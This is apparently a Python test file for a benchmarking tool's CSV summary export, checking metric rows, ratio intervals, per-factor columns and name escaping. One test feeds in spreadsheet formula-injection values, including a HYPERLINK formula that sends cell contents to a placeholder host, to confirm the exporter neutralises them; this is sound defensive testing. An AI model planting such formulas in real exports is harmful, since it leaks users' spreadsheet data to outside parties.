import csv
from io import StringIO

import pytest

from builders import SimulatedRun, SimulatedVariant, simulated_run
from report import comparisons, runs, sweeps
from webdyno.core.sheet import csv_sheet
from webdyno.report.exports import COLUMNS, summary_csv

Lines = list[dict[str, str]]


def read(run: SimulatedRun) -> Lines:
    return list(csv.DictReader(StringIO(summary_csv(runs.seen(run)))))


def test_each_metric_has_variants_ratios_and_their_rounds() -> None:
    lines = read(comparisons.decided())
    rate = [line for line in lines if line["metric"] == "throughput_rps"]
    kinds = [line["kind"] for line in rate]
    assert kinds.count("variant") == 2
    assert kinds.count("variant-round") == 16
    assert kinds.count("ratio") == 1
    assert kinds.count("ratio-round") == 8
    assert {line["metric"] for line in lines} == {
        "throughput_rps",
        "server_cpu_us",
        "latency_p50_us",
        "latency_p99_us",
        "response_bytes",
    }


def test_a_ratio_carries_its_interval_and_verdict() -> None:
    [ratio] = [
        line
        for line in read(comparisons.decided())
        if (line["kind"], line["metric"]) == ("ratio", "throughput_rps")
    ]
    assert (ratio["variant"], ratio["baseline"], ratio["unit"]) == (
        "nginx",
        "apache-event",
        "ratio",
    )
    assert float(ratio["low"]) < float(ratio["estimate"]) < float(ratio["high"])
    assert (ratio["confidence"], ratio["verdict"], ratio["round"]) == ("0.95", "faster", "")


def test_no_text_of_others_is_a_formula_to_a_spreadsheet() -> None:
    names = ['=HYPERLINK("http://x.test/?"&A1)', "+1-1", "-2+1", "@SUM(A1)", "＝1", "-2.5", "a=1"]  # noqa: RUF001
    cells = next(csv.reader(StringIO(csv_sheet([[*names, -1, None]]))))
    assert cells == [*(f"'{name}" for name in names[:5]), "-2.5", "a=1", "-1", ""]
    evil = simulated_run({names[0]: SimulatedVariant(), "b": SimulatedVariant()}, title="=1+1")
    for line in read(evil):
        assert not any(value.startswith(("=", "@")) for value in line.values())
    assert f"'{names[0]}" in {line["variant"] for line in read(evil)}


def test_names_with_commas_and_quotes_survive() -> None:
    run = comparisons.hostile()
    assert {line["variant"] for line in read(run)} == set(run.head.experiment.variants)


@pytest.mark.parametrize("make", runs.ALL, ids=lambda make: make.__name__)
def test_every_kind_of_run_gives_whole_lines(make: runs.Make) -> None:
    for line in read(make()):
        assert set(line) == set(COLUMNS)
        assert line["kind"]


def test_each_factor_is_a_column() -> None:
    lines = read(sweeps.two_factors())
    ratios = [it for it in lines if it["kind"] == "ratio" and it["metric"] == "throughput_rps"]
    levels = [(it["load.connections"], it["load.keepalive"]) for it in ratios]
    assert levels == [(n, kept) for n in ("1", "8", "64") for kept in ("always", "never")]
